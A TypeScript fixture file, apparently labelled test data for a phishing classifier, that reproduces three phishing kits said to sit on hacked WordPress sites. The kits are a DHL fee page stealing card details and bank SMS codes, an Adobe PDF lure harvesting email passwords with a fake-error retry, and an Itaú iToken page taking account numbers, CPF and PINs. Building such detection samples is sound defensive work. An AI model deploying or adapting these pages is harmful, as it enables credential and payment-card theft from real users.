import type { Entry } from '../entry.js';
import { doc, htmlRoute, jsRoute, jsonRoute, pngRoute, redirectRoute } from '../parts/y-kit.js';

// Phishing kits uploaded to hacked WordPress installs (plugin / uploads folders), as reported to the host's abuse desk.

const dhlHost = 'www.schreinerei-brandl.de';
const dhlBase = `/wp-content/uploads/2025/11/sendung`;

const adobeHost = 'bluefinmarinesupply.com';
const adobeBase = '/wp-content/plugins/wp-file-mngr-lite/inc/view';

const itauHost = 'oficinadomarcao.com.br';
const itauBase = '/wp-content/uploads/wpforms/cache/itoken';

export const entries: Entry[] = [
  {
    id: 'y-wp-uploads-dhl-de',
    label: 'phishing',
    kind: 'wp-hacked-kit',
    url: `https://${dhlHost}${dhlBase}/index.php?id=DE8841207733`,
    routes: {
      [`${dhlHost}${dhlBase}/index.php`]: htmlRoute(doc({
        lang: 'de',
        title: 'DHL Paket – Sendungsverfolgung',
        css: `body{margin:0;font-family:Frutiger,Arial,sans-serif;background:#f2f2f2;color:#333}
header{background:#ffcc00;padding:14px 24px;display:flex;align-items:center;gap:16px}
header .logo{font-weight:900;font-style:italic;color:#d40511;font-size:30px;letter-spacing:-1px}
.box{max-width:560px;margin:30px auto;background:#fff;padding:26px;border-top:4px solid #d40511}
.steps{display:flex;gap:6px;margin:14px 0}.steps span{flex:1;height:6px;background:#ddd}.steps span.on{background:#d40511}
label{display:block;font-size:13px;margin:12px 0 4px}input{width:100%;padding:10px;border:1px solid #bbb;box-sizing:border-box}
.row{display:flex;gap:10px}.row>div{flex:1}
button{margin-top:18px;width:100%;background:#d40511;color:#fff;border:0;padding:13px;font-size:16px;font-weight:700}
small{color:#777}footer{text-align:center;font-size:11px;color:#888;padding:20px}`,
        body: `<header><span class="logo">DHL</span><span>Paket &amp; Brief</span></header>
<div class="box">
<h2>Ihre Sendung wartet auf Zustellung</h2>
<p>Sendungsnummer: <b id="sn">DE8841207733</b><br>Status: <b style="color:#d40511">Zustellung ausgesetzt – Zollgebühr offen (1,99 €)</b></p>
<div class="steps"><span class="on"></span><span class="on"></span><span class="on"></span><span></span></div>
<p>Wir konnten Ihr Paket am 24.11. nicht zustellen, da eine Gebühr von <b>1,99 EUR</b> noch nicht beglichen wurde. Bitte bestätigen Sie Ihre Adresse und begleichen Sie die Gebühr innerhalb von 48 Stunden, sonst wird die Sendung an den Absender zurückgeschickt.</p>
<form id="f" method="post" action="send.php" autocomplete="off">
<label>Vor- und Nachname</label><input name="name" required>
<label>Straße und Hausnummer</label><input name="addr" required>
<div class="row"><div><label>PLZ</label><input name="plz" maxlength="5" required></div><div><label>Ort</label><input name="ort" required></div></div>
<label>Telefonnummer</label><input name="tel" type="tel">
<hr style="margin:22px 0;border:0;border-top:1px solid #eee">
<label>Karteninhaber</label><input name="holder" required>
<label>Kartennummer</label><input name="cc" inputmode="numeric" maxlength="19" placeholder="0000 0000 0000 0000" required>
<div class="row"><div><label>Gültig bis (MM/JJ)</label><input name="exp" maxlength="5" required></div><div><label>CVC</label><input name="cvv" maxlength="4" required></div></div>
<button type="submit">1,99 € jetzt bezahlen</button>
<small>Ihre Zahlung wird über eine gesicherte 3D-Secure Verbindung verarbeitet.</small>
</form>
</div>
<footer>© 2025 DHL Paket GmbH · Impressum · Datenschutz · AGB</footer>
<script>
document.querySelector('[name=cc]').addEventListener('input',function(e){e.target.value=e.target.value.replace(/\\D/g,'').replace(/(\\d{4})(?=\\d)/g,'$1 ').trim();});
document.getElementById('f').addEventListener('submit',function(ev){ev.preventDefault();var d=new FormData(this);fetch('send.php',{method:'POST',body:d}).then(function(){location.href='sms.php';});});
</script>`,
      })),
      [`${dhlHost}${dhlBase}/send.php`]: jsonRoute({ s: 1 }),
      [`${dhlHost}${dhlBase}/sms.php`]: htmlRoute(doc({ lang: 'de', title: 'DHL – Bestätigung', body: '<h3>Bitte geben Sie den SMS-Code Ihrer Bank ein</h3><form method="post" action="send.php"><input name="otp" maxlength="8"><button>Bestätigen</button></form>' })),
    },
  },
  {
    id: 'y-wp-plugin-adobe-pdf',
    label: 'phishing',
    kind: 'wp-hacked-kit',
    url: `https://${adobeHost}${adobeBase}/?doc=Remittance_Advice_0412.pdf&e=accounts@bluefinmarinesupply.com`,
    routes: {
      [`${adobeHost}${adobeBase}/`]: htmlRoute(doc({
        title: 'Adobe Document Cloud',
        head: '<meta name="robots" content="noindex,nofollow">',
        css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#2b2b2b url(bg.png);}
.blur{position:fixed;inset:0;backdrop-filter:blur(6px);background:rgba(40,40,40,.6)}
.modal{position:relative;z-index:2;width:380px;margin:9vh auto;background:#fff;border-radius:6px;padding:26px 28px;box-shadow:0 12px 40px rgba(0,0,0,.5)}
.modal h3{margin:6px 0 4px}.pdf{display:flex;align-items:center;gap:10px;background:#f4f4f4;padding:10px;border-radius:4px;margin:12px 0;font-size:13px}
.pdf i{display:inline-block;width:28px;height:34px;background:#e0261b;color:#fff;font:bold 10px/34px Arial;text-align:center;font-style:normal}
.prov{display:grid;grid-template-columns:1fr 1fr;gap:8px;margin:12px 0}.prov button{padding:9px;border:1px solid #ccc;background:#fff;border-radius:4px;cursor:pointer}
input{width:100%;padding:10px;margin:6px 0;border:1px solid #bbb;border-radius:3px;box-sizing:border-box}
.go{width:100%;padding:11px;background:#1473e6;color:#fff;border:0;border-radius:16px;font-weight:600}
#err{color:#c00;font-size:13px;display:none}`,
        body: `<div class="blur"></div>
<div class="modal">
<img src="logo.png" width="34" height="34" alt="Adobe"><h3>Adobe Acrobat</h3>
<div style="font-size:13px;color:#555">A secured PDF has been shared with you. Sign in with your email account to view and download.</div>
<div class="pdf"><i>PDF</i><div><b id="dn">Remittance_Advice_0412.pdf</b><br>187 KB · Protected</div></div>
<div class="prov"><button type="button" data-p="o365">Office 365</button><button type="button" data-p="outlook">Outlook</button><button type="button" data-p="aol">AOL</button><button type="button" data-p="other">Other Mail</button></div>
<form id="lf" style="display:none">
<input id="em" name="email" type="email" placeholder="Email address" required>
<input id="pw" name="password" type="password" placeholder="Email password" required>
<div id="err">Invalid password. Please try again.</div>
<button class="go" type="submit">View Document</button>
</form>
<p style="font-size:11px;color:#888;margin-top:16px">© 2025 Adobe. All rights reserved.</p>
</div>
<script>
var q=new URLSearchParams(location.search);if(q.get('doc'))document.getElementById('dn').textContent=q.get('doc');
var e=q.get('e');if(e){document.getElementById('em').value=e;}
var tries=0;
document.querySelectorAll('.prov button').forEach(function(b){b.onclick=function(){document.getElementById('lf').style.display='block';};});
document.getElementById('lf').onsubmit=function(ev){ev.preventDefault();tries++;
 var x=new XMLHttpRequest();x.open('POST','next.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
 x.send('em='+encodeURIComponent(em.value)+'&pw='+encodeURIComponent(pw.value)+'&t='+tries);
 if(tries<2){document.getElementById('err').style.display='block';pw.value='';}else{location.replace('https://www.adobe.com/acrobat/online/pdf-reader.html');}
};
</script>`,
      })),
      [`${adobeHost}${adobeBase}/next.php`]: jsonRoute({ signal: 'ok' }),
      [`${adobeHost}${adobeBase}/logo.png`]: pngRoute(230, 38, 27),
      [`${adobeHost}${adobeBase}/bg.png`]: pngRoute(200, 200, 200),
    },
  },
  {
    id: 'y-wp-uploads-itau-ptbr',
    label: 'phishing',
    kind: 'wp-hacked-kit',
    url: `https://${itauHost}/wp-content/uploads/wpforms/cache/`,
    routes: {
      [`${itauHost}/wp-content/uploads/wpforms/cache/`]: redirectRoute(302, `https://${itauHost}${itauBase}/acesso.php?sess=8f1c2a77e0`),
      [`${itauHost}${itauBase}/acesso.php`]: htmlRoute(doc({
        lang: 'pt-BR',
        title: 'Itaú | Acesso Seguro',
        css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f4f4f4}
.top{background:#ec7000;height:64px;display:flex;align-items:center;padding:0 20px}
.top b{background:#003399;color:#ffcc00;font-size:22px;padding:6px 10px;border-radius:6px}
.card{max-width:420px;margin:34px auto;background:#fff;border-radius:8px;padding:26px;box-shadow:0 2px 10px rgba(0,0,0,.1)}
h1{font-size:20px;color:#ec7000;margin-top:0}label{display:block;font-size:13px;color:#555;margin-top:12px}
input{width:100%;padding:11px;border:1px solid #ccc;border-radius:4px;box-sizing:border-box;font-size:16px}
.row{display:flex;gap:10px}.row div{flex:1}
button{width:100%;margin-top:18px;padding:13px;background:#ec7000;border:0;color:#fff;font-weight:bold;border-radius:4px;font-size:16px}
.alert{background:#fff3e0;border-left:4px solid #ec7000;padding:10px;font-size:13px}`,
        body: `<div class="top"><b>itaú</b></div>
<div class="card">
<h1>Atualização do iToken</h1>
<div class="alert">Identificamos que seu <b>iToken</b> está desatualizado. Para evitar o bloqueio do seu acesso e de transações via Pix, realize a sincronização agora.</div>
<form id="frm" action="proc.php" method="post">
<div class="row"><div><label>Agência</label><input name="ag" maxlength="4" inputmode="numeric" required></div><div><label>Conta</label><input name="cc" maxlength="7" required></div></div>
<label>CPF</label><input name="cpf" maxlength="14" placeholder="000.000.000-00" required>
<label>Senha eletrônica (6 dígitos)</label><input name="s6" type="password" maxlength="6" inputmode="numeric" required>
<label>Senha do cartão (4 dígitos)</label><input name="s4" type="password" maxlength="4" inputmode="numeric" required>
<label>Celular cadastrado</label><input name="cel" placeholder="(11) 90000-0000">
<button>Sincronizar iToken</button>
</form>
<p style="font-size:11px;color:#999;text-align:center;margin-top:18px">Itaú Unibanco S.A. · CNPJ 60.701.190/0001-04 · Ambiente seguro</p>
</div>
<script>
if(!/Mobi|Android/i.test(navigator.userAgent)){console.log('desktop');}
document.querySelector('[name=cpf]').oninput=function(){var v=this.value.replace(/\\D/g,'').slice(0,11);this.value=v.replace(/(\\d{3})(\\d)/,'$1.$2').replace(/(\\d{3})(\\d)/,'$1.$2').replace(/(\\d{3})(\\d{1,2})$/,'$1-$2');};
</script>`,
      })),
      [`${itauHost}${itauBase}/proc.php`]: htmlRoute('<script>location="aguarde.php"</script>'),
      [`${itauHost}${itauBase}/aguarde.php`]: htmlRoute(doc({ lang: 'pt-BR', title: 'Aguarde', body: '<p>Aguarde, estamos validando seus dados... Não feche esta janela.</p><script>setTimeout(function(){location="https://www.itau.com.br"},9000)</script>' })),
      [`${itauHost}${itauBase}/bot.js`]: jsRoute('/* antibot */'),
    },
  },
];
